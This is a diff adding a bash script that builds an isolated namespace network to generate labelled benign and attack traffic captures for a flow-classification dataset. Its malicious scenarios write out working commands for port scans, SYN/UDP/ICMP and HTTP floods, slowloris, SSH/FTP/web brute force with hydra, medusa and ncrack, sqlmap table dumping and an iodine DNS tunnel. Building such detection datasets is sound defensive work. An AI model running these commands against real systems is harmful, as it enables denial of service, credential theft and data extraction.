@@ -1,0 +1,395 @@
+#!/usr/bin/env bash
+# flowmeter traffic lab: an isolated network of namespaces on this machine,
+# real servers, real benign clients and real attack tools, one capture per
+# scenario and a labels.csv whose labels are known by construction (every
+# attack comes from its own host). docs/lab.md describes it.
+#
+#   sudo lab/run.sh -o DIR [-s SEED] [-S SCENARIO,...] [--short] [--list]
+#
+# Needs root and the tools of the apt-get line in docs/lab.md. Everything it
+# starts is stopped and every namespace removed when it ends, also on Ctrl-C
+# or failure.
+set -euo pipefail
+
+LAB_DIR=$(cd "$(dirname "$0")" && pwd)
+OUT= SEED=1 ONLY= SHORT=0 LIST=0
+while [ $# -gt 0 ]; do
+	case $1 in
+	-o) OUT=$2; shift 2 ;;
+	-s) SEED=$2; shift 2 ;;
+	-S) ONLY=$2; shift 2 ;;
+	--short) SHORT=1; shift ;;
+	--list) LIST=1; shift ;;
+	-h | --help) sed -n '2,12p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
+	*) echo "lab: unknown argument $1 (see --help)" >&2; exit 2 ;;
+	esac
+done
+
+# ---------------------------------------------------------------- scenarios
+# name|class|category|tool. The functions scn_NAME below run them.
+SCENARIOS='
+web|benign|web browsing (HTTP)|curl, wget
+download|benign|downloads (HTTP)|wget, curl
+dns|benign|DNS lookups|dig
+ssh|benign|SSH sessions and scp|ssh, scp
+ftp|benign|FTP transfers|curl
+polling|benign|monitoring agent polling|curl
+keepalive|benign|idle keep-alive connections|ssh
+iperf|benign|bulk transfer bursts|iperf3
+nmap-syn|malicious|scan: nmap TCP SYN|nmap
+nmap-connect|malicious|scan: nmap TCP connect|nmap
+nmap-udp|malicious|scan: nmap UDP|nmap
+nmap-version|malicious|scan: nmap service versions|nmap
+masscan|malicious|scan: masscan|masscan
+hping-syn|malicious|dos: SYN flood|hping3
+hping-udp|malicious|dos: UDP flood|hping3
+hping-icmp|malicious|dos: ICMP flood|hping3
+slowloris|malicious|dos: slowloris|slowhttptest
+slowpost|malicious|dos: slow POST|slowhttptest
+http-flood|malicious|dos: HTTP flood|ab
+hydra-ssh|malicious|brute force: SSH|hydra
+medusa-ssh|malicious|brute force: SSH|medusa
+ncrack-ssh|malicious|brute force: SSH|ncrack
+hydra-ftp|malicious|brute force: FTP|hydra
+hydra-web|malicious|brute force: web login|hydra
+sqlmap|malicious|web: SQL injection|sqlmap
+iodine|malicious|tunnel: DNS (iodine)|iodine
+'
+
+if [ "$LIST" = 1 ]; then
+	echo "$SCENARIOS" | awk -F'|' 'NF { printf "%-14s %-9s %-30s %s\n", $1, $2, $3, $4 }'
+	exit 0
+fi
+[ -n "$OUT" ] || { echo "lab: -o DIR is required (see --help)" >&2; exit 2; }
+[ "$(id -u)" = 0 ] || { echo "lab: needs root (network namespaces, raw sockets)" >&2; exit 1; }
+missing=
+for t in ip ping ethtool tcpdump nginx sshd vsftpd dnsmasq iperf3 python3 curl wget dig ssh scp nmap masscan hping3 \
+	slowhttptest ab hydra medusa ncrack sqlmap iodine iodined ssh-keygen; do
+	command -v "$t" >/dev/null 2>&1 || [ -x "/usr/sbin/$t" ] || missing="$missing $t"
+done
+[ -z "$missing" ] || { echo "lab: missing tools:$missing (install them with the apt-get line in docs/lab.md)" >&2; exit 1; }
+export PATH=$PATH:/usr/sbin:/sbin
+
+RANDOM=$SEED
+rnd() { echo $(($1 + RANDOM % ($2 - $1 + 1))); } # rnd LO HI: uniform integer
+# scale N: N in a full run, about a fifth (at least 1) with --short
+scale() { if [ "$SHORT" = 1 ]; then echo $(((${1} + 4) / 5)); else echo "$1"; fi; }
+LIMIT=$([ "$SHORT" = 1 ] && echo 10 || echo 40) # seconds at most per scenario
+
+# ---------------------------------------------------------------- network
+# One switch namespace holding a bridge, and one namespace per host, each
+# joined to the bridge by a veth pair. No namespace has a route or a link
+# to anything else, so nothing the lab sends can leave it.
+P=fml$$
+SW=$P-sw
+declare -A IP=([srv]=10.77.0.10 [cli1]=10.77.0.21 [cli2]=10.77.0.22 [cli3]=10.77.0.23 [atk]=10.77.0.66 [c2]=10.77.0.53)
+WORK=$(mktemp -d /tmp/flowmeter-lab.XXXXXX)
+CAP_PID=
+
+on() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }
+
+cleanup() {
+	local rc=$?
+	trap - EXIT INT TERM
+	[ -n "$CAP_PID" ] && kill -INT "$CAP_PID" 2>/dev/null && wait "$CAP_PID" 2>/dev/null
+	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-" || true); do
+		pids=$(ip netns pids "$ns" 2>/dev/null || true)
+		[ -z "$pids" ] || kill $pids 2>/dev/null || true
+	done
+	sleep 0.3
+	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-" || true); do
+		pids=$(ip netns pids "$ns" 2>/dev/null || true)
+		[ -z "$pids" ] || kill -9 $pids 2>/dev/null || true
+		ip netns del "$ns" 2>/dev/null || true
+	done
+	rm -rf "$WORK"
+	exit "$rc"
+}
+trap cleanup EXIT
+trap 'echo "lab: interrupted" >&2; exit 130' INT TERM
+
+net_up() {
+	ip netns add "$SW"
+	ip -n "$SW" link set lo up
+	ip netns exec "$SW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+	ip -n "$SW" link add br0 type bridge forward_delay 0 stp_state 0
+	ip -n "$SW" link set br0 up
+	local h i=0
+	for h in srv cli1 cli2 cli3 atk c2; do
+		i=$((i + 1))
+		ip netns add "$P-$h"
+		on "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+		ip link add "${P}p$i" type veth peer name eth0 netns "$P-$h"
+		ip link set "${P}p$i" netns "$SW"
+		ip -n "$SW" link set "${P}p$i" master br0 up
+		ip -n "$P-$h" addr add "${IP[$h]}/24" dev eth0
+		ip -n "$P-$h" link set eth0 up
+		# Wire-sized frames, as on a real network: no segmentation or
+		# receive offloads, which would show 64 KiB "packets" on the bridge.
+		on "$h" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1
+		ip netns exec "$SW" ethtool -K "${P}p$i" tso off gso off gro off >/dev/null 2>&1
+		ip -n "$P-$h" link set lo up
+	done
+	on cli1 ping -c1 -W2 "${IP[srv]}" >/dev/null || { echo "lab: the lab network does not work" >&2; exit 1; }
+}
+
+# ---------------------------------------------------------------- servers
+servers_up() {
+	local w=$WORK s
+	mkdir -p "$w/www/files" "$w/ftp/pub" "$w/empty" "$w/nginx" /run/sshd
+	# Files of varied sizes for HTTP and FTP, from the seed.
+	for s in 1 4 16 64 256 1024 4096; do
+		head -c $((s * 1024 + $(rnd 0 999))) /dev/urandom >"$w/www/files/f$s.bin"
+		cp "$w/www/files/f$s.bin" "$w/ftp/pub/"
+	done
+	for s in index about news contact; do
+		{ echo "<html><body><h1>$s</h1>"; head -c $(rnd 2000 30000) /dev/urandom | base64; echo "</body></html>"; } >"$w/www/$s.html"
+	done
+	cp "$w/www/index.html" "$w/www/index.htm"
+	cat >"$w/nginx.conf" <<-EOF
+		daemon off; worker_processes 1; pid $w/nginx.pid; error_log $w/nginx/error.log;
+		events { worker_connections 1024; }
+		http {
+		  access_log off; client_body_temp_path $w/nginx/body; proxy_temp_path $w/nginx/proxy;
+		  fastcgi_temp_path $w/nginx/fcgi; uwsgi_temp_path $w/nginx/uwsgi; scgi_temp_path $w/nginx/scgi;
+		  keepalive_timeout 15;
+		  server { listen 80; root $w/www; index index.html;
+		    location /status { default_type application/json; return 200 '{"ok":true}'; } }
+		}
+	EOF
+	on srv nginx -c "$w/nginx.conf" &
+	on srv python3 "$LAB_DIR/webapp.py" --port 8080 --db "$w/app.db" 2>"$w/webapp.log" &
+	ssh-keygen -q -t ed25519 -N '' -f "$w/hostkey"
+	ssh-keygen -q -t ed25519 -N '' -f "$w/userkey"
+	cp "$w/userkey.pub" "$w/authorized_keys"
+	chmod 600 "$w/authorized_keys"
+	cat >"$w/sshd_config" <<-EOF
+		Port 22
+		HostKey $w/hostkey
+		PidFile $w/sshd.pid
+		AuthorizedKeysFile $w/authorized_keys
+		PermitRootLogin prohibit-password
+		PasswordAuthentication yes
+		KbdInteractiveAuthentication no
+		UsePAM no
+		StrictModes no
+		MaxAuthTries 6
+		MaxStartups 100:30:200
+		Subsystem sftp internal-sftp
+	EOF
+	on srv /usr/sbin/sshd -D -f "$w/sshd_config" &
+	cat >"$w/vsftpd.conf" <<-EOF
+		listen=YES
+		listen_ipv6=NO
+		background=NO
+		anonymous_enable=YES
+		no_anon_password=YES
+		anon_root=$w/ftp
+		local_enable=NO
+		write_enable=NO
+		secure_chroot_dir=$w/empty
+		seccomp_sandbox=NO
+		xferlog_enable=NO
+		pasv_enable=YES
+		pasv_min_port=30000
+		pasv_max_port=30100
+		max_clients=200
+		max_per_ip=100
+	EOF
+	chmod 755 "$w" "$w/ftp" "$w/ftp/pub"
+	on srv /usr/sbin/vsftpd "$w/vsftpd.conf" &
+	on srv dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --bind-interfaces \
+		--listen-address="${IP[srv]}" --address=/lab.example/"${IP[srv]}" \
+		--pid-file="$w/dnsmasq.pid" --user=root --group=root 2>/dev/null &
+	on srv iperf3 -s --logfile "$w/iperf3.log" &
+	# iodine's server: the attacker's own DNS server on the c2 host.
+	on c2 iodined -f -c -P lab-tunnel-pw -l "${IP[c2]}" 172.30.0.1/24 t.lab.example >"$w/iodined.log" 2>&1 &
+	disown -a # the servers end with their namespaces (cleanup), silently
+	local i
+	for i in $(seq 50); do
+		on cli1 bash -c "exec 3<>/dev/tcp/${IP[srv]}/80 && exec 4<>/dev/tcp/${IP[srv]}/8080 && exec 5<>/dev/tcp/${IP[srv]}/22 && exec 6<>/dev/tcp/${IP[srv]}/21" 2>/dev/null && return 0
+		sleep 0.2
+	done
+	echo "lab: servers did not start (see $w)" >&2
+	exit 1
+}
+
+# ---------------------------------------------------------------- benign
+S=http://10.77.0.10
+client() { echo "cli$(rnd 1 3)"; } # a benign host, varied per call
+SSH_OPTS="-i $WORK/userkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o BatchMode=yes"
+
+scn_web() {
+	local n i p
+	n=$(scale $(rnd 40 80))
+	for i in $(seq "$n"); do
+		p=$(echo index about news contact | tr ' ' '\n' | sed -n "$(rnd 1 4)p")
+		on "$(client)" curl -s -o /dev/null -o /dev/null "$S/$p.html" "$S/files/f$(echo 1 4 16 | cut -d' ' -f"$(rnd 1 3)").bin"
+		on "$(client)" curl -s -o /dev/null -o /dev/null "$S:8080/" "$S:8080/search?q=$(echo apple cherry pear | cut -d' ' -f"$(rnd 1 3)")"
+		sleep "0.$(rnd 0 5)"
+	done
+}
+scn_download() {
+	local n i
+	n=$(scale $(rnd 8 16))
+	for i in $(seq "$n"); do
+		on "$(client)" wget -q -O /dev/null --limit-rate=$(rnd 2 40)m "$S/files/f$(echo 64 256 1024 4096 | cut -d' ' -f"$(rnd 1 4)").bin" &
+		sleep "0.$(rnd 1 9)"
+	done
+	wait
+}
+scn_dns() {
+	local n i name
+	n=$(scale $(rnd 60 120))
+	for i in $(seq "$n"); do
+		name=$(echo www mail api cdn db intranet | cut -d' ' -f"$(rnd 1 6)").lab.example
+		[ $((RANDOM % 6)) = 0 ] && name=nx$RANDOM.example.org # answered NXDOMAIN-like (no upstream)
+		on "$(client)" dig +time=1 +tries=1 +short "@${IP[srv]}" "$name" "$(echo A A A AAAA MX TXT | cut -d' ' -f"$(rnd 1 6)")" >/dev/null || true
+		sleep "0.0$(rnd 1 9)"
+	done
+}
+scn_ssh() {
+	local n i c
+	n=$(scale $(rnd 6 12))
+	for i in $(seq "$n"); do
+		c=$(client)
+		on "$c" ssh $SSH_OPTS root@"${IP[srv]}" "uname -a; ls /; sleep 0.$(rnd 1 9); head -c $(rnd 1000 200000) /dev/zero | wc -c" >/dev/null
+		on "$c" scp -q $SSH_OPTS root@"${IP[srv]}:$WORK/www/files/f$(echo 16 64 256 | cut -d' ' -f"$(rnd 1 3)").bin" "$WORK/scp.$i" && rm -f "$WORK/scp.$i"
+	done
+}
+scn_ftp() {
+	local n i
+	n=$(scale $(rnd 8 16))
+	for i in $(seq "$n"); do
+		on "$(client)" curl -s -o /dev/null "ftp://${IP[srv]}/pub/f$(echo 4 16 64 256 1024 | cut -d' ' -f"$(rnd 1 5)").bin"
+		[ $((RANDOM % 3)) = 0 ] && on "$(client)" curl -s -o /dev/null "ftp://${IP[srv]}/pub/"
+		sleep "0.$(rnd 1 5)"
+	done
+}
+scn_polling() {
+	local n i c period
+	c=$(client)
+	n=$(scale $(rnd 15 30))
+	period=$(rnd 1 2)
+	for i in $(seq "$n"); do
+		on "$c" curl -s -o /dev/null "$S/status"
+		on "$c" curl -s -o /dev/null "$S:8080/status"
+		sleep "$period"
+	done
+}
+scn_keepalive() {
+	local n i
+	n=$(scale $(rnd 3 6))
+	for i in $(seq "$n"); do
+		on "$(client)" ssh $SSH_OPTS -o ServerAliveInterval=$(rnd 2 5) root@"${IP[srv]}" "sleep $(scale $(rnd 15 30))" &
+	done
+	wait
+}
+scn_iperf() {
+	local n i
+	n=$(scale $(rnd 3 5))
+	for i in $(seq "$n"); do
+		on "$(client)" iperf3 -c "${IP[srv]}" -t 1 -b "$(rnd 20 200)M" $([ $((RANDOM % 2)) = 0 ] && echo -R) >/dev/null || true
+		sleep "$(rnd 1 2)"
+	done
+}
+
+# ---------------------------------------------------------------- malicious
+A() { on atk "$@"; } # run on the attacker host
+T=${IP[srv]}
+
+scn_nmap_syn() { A nmap -n -Pn -sS -T"$(rnd 3 5)" -p 1-$(scale 2000) "$T" >/dev/null; }
+scn_nmap_connect() { A nmap -n -Pn -sT -T4 --top-ports "$(scale 300)" "$T" >/dev/null; }
+scn_nmap_udp() { A nmap -n -Pn -sU -T5 --max-retries 1 --top-ports "$(scale 60)" "$T" >/dev/null; }
+scn_nmap_version() { A nmap -n -Pn -sV --version-intensity "$(rnd 2 7)" -p 21,22,53,80,8080 "$T" >/dev/null; }
+scn_masscan() {
+	local mac
+	mac=$(on srv cat /sys/class/net/eth0/address)
+	A masscan "$T" -p1-$(scale 5000) --rate "$(rnd 500 2000)" -e eth0 --adapter-ip "${IP[atk]}" --router-mac "$mac" --wait 1
+}
+scn_hping_syn() { A hping3 -q -S -p "$(echo 80 22 8080 | cut -d' ' -f"$(rnd 1 3)")" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" >/dev/null 2>&1 || true; }
+scn_hping_udp() { A hping3 -q --udp -p 53 -d "$(rnd 20 512)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" >/dev/null 2>&1 || true; }
+scn_hping_icmp() { A hping3 -q --icmp -d "$(rnd 56 1400)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" >/dev/null 2>&1 || true; }
+scn_slowloris() { A slowhttptest -H -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -l "$((LIMIT - 5))" -u "$S/" -p 3 >/dev/null 2>&1 || true; }
+scn_slowpost() { A slowhttptest -B -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -s 8192 -l "$((LIMIT - 5))" -u "$S:8080/login" -p 3 >/dev/null 2>&1 || true; }
+scn_http_flood() { A ab -q -n "$(scale $(rnd 3000 8000))" -c "$(rnd 10 60)" "$S/$(echo index.html status files/f1.bin | cut -d' ' -f"$(rnd 1 3)")" >/dev/null 2>&1 || true; }
+wordlists() {
+	printf '%s\n' root admin user test guest oracle ftp alice bob >"$WORK/users.txt"
+	{ printf '%s\n' 123456 password admin letmein qwerty hunter2 dragon monkey; seq -f 'pass%03g' 1 "$(scale 60)"; } >"$WORK/pass.txt"
+}
+scn_hydra_ssh() { wordlists; A hydra -I -q -t "$(rnd 4 8)" -L "$WORK/users.txt" -P "$WORK/pass.txt" -W 0 "ssh://$T" >/dev/null 2>&1 || true; }
+scn_medusa_ssh() { wordlists; A medusa -h "$T" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M ssh -t "$(rnd 2 6)" >/dev/null 2>&1 || true; }
+scn_ncrack_ssh() { wordlists; A ncrack -U "$WORK/users.txt" -P "$WORK/pass.txt" -T"$(rnd 3 5)" "ssh://$T" >/dev/null 2>&1 || true; }
+scn_hydra_ftp() { wordlists; A hydra -I -q -t "$(rnd 4 12)" -L "$WORK/users.txt" -P "$WORK/pass.txt" "ftp://$T" >/dev/null 2>&1 || true; }
+scn_hydra_web() {
+	wordlists
+	A hydra -I -q -t "$(rnd 4 12)" -s 8080 -L "$WORK/users.txt" -P "$WORK/pass.txt" "$T" \
+		http-post-form "/login:user=^USER^&password=^PASS^:Login failed" >/dev/null 2>&1 || true
+}
+scn_sqlmap() {
+	A sqlmap -u "$S:8080/search?q=apple" --batch --level "$(rnd 1 3)" --risk 1 --threads "$(rnd 1 4)" \
+		--dump -T users --output-dir "$WORK/sqlmap" --disable-coloring >/dev/null 2>&1 || true
+}
+scn_iodine() {
+	A iodine -f -P lab-tunnel-pw -r "${IP[c2]}" t.lab.example >"$WORK/iodine.log" 2>&1 &
+	local tun=$! i
+	for i in $(seq 40); do A ip link show dns0 >/dev/null 2>&1 && break; sleep 0.25; done
+	A ping -q -c "$(scale $(rnd 20 60))" -i 0.2 -s "$(rnd 100 1000)" 172.30.0.1
+	kill "$tun" 2>/dev/null
+	wait
+}
+
+# ---------------------------------------------------------------- runs
+mkdir -p "$OUT/benign" "$OUT/malicious" "$OUT/logs"
+OUT=$(cd "$OUT" && pwd)
+LABELS=$OUT/labels.csv
+echo "file,label,category,key_ip,key_role,key_basis,packets,format,linktype,source,licence" >"$LABELS"
+
+run_one() { # name class category
+	local name=$1 class=$2 cat=$3 file rel pkts t0 fn
+	rel=$class/$name.pcap
+	file=$OUT/$rel
+	ip netns exec "$SW" tcpdump -i br0 -s 0 -U -w "$file" -Z root >"$WORK/tcpdump.log" 2>&1 &
+	CAP_PID=$!
+	for _ in $(seq 50); do grep -q listening "$WORK/tcpdump.log" && break; sleep 0.1; done
+	t0=$SECONDS
+	fn=scn_${name//-/_}
+	# Each scenario is bounded by its own counts, and in time by LIMIT: its
+	# process group (the scenario and every tool it started) is then ended.
+	local seed=$((SEED * 1000 + ${#name} * 31 + $(printf '%d' "'$name")))
+	set -m
+	(set +e; RANDOM=$seed; "$fn") >"$OUT/logs/$name.log" 2>&1 &
+	local spid=$! ticks=0
+	set +m
+	while kill -0 "$spid" 2>/dev/null && [ "$ticks" -lt $((LIMIT * 10)) ]; do sleep 0.1; ticks=$((ticks + 1)); done
+	kill -TERM -- "-$spid" 2>/dev/null || true
+	wait "$spid" 2>/dev/null || true
+	# Leftover connections of the scenario end before the capture does.
+	local h pids
+	for h in cli1 cli2 cli3 atk; do
+		pids=$(ip netns pids "$P-$h" 2>/dev/null || true)
+		[ -z "$pids" ] || kill $pids 2>/dev/null || true
+	done
+	sleep 1
+	kill -INT "$CAP_PID"
+	wait "$CAP_PID" 2>/dev/null || true
+	CAP_PID=
+	pkts=$(tcpdump -r "$file" 2>/dev/null | wc -l)
+	local key= role=none basis=
+	if [ "$class" = malicious ]; then key=${IP[atk]} role=attacker basis=documented; fi
+	echo "$rel,$class,\"$cat\",$key,$role,$basis,$pkts,pcap,ether,flowmeter lab (lab/run.sh -s $SEED$([ "$SHORT" = 1 ] && echo ' --short')),generated" >>"$LABELS"
+	printf 'lab: %-14s %-9s %6d packets  %3ds\n' "$name" "$class" "$pkts" $((SECONDS - t0)) >&2
+}
+
+net_up
+servers_up
+echo "lab: network up ($P: server ${IP[srv]}, clients ${IP[cli1]}-${IP[cli3]}, attacker ${IP[atk]}, c2 ${IP[c2]}); seed $SEED" >&2
+n=0
+while IFS='|' read -r name class cat _; do
+	[ -n "$name" ] || continue
+	if [ -n "$ONLY" ] && ! echo ",$ONLY," | grep -q ",$name,"; then continue; fi
+	run_one "$name" "$class" "$cat" </dev/null # ssh & co. must not read the scenario list
+	n=$((n + 1))
+done <<<"$SCENARIOS"
+[ "$n" -gt 0 ] || { echo "lab: no scenario matches -S $ONLY (see --list)" >&2; exit 2; }
+echo "lab: $n captures and $LABELS written" >&2
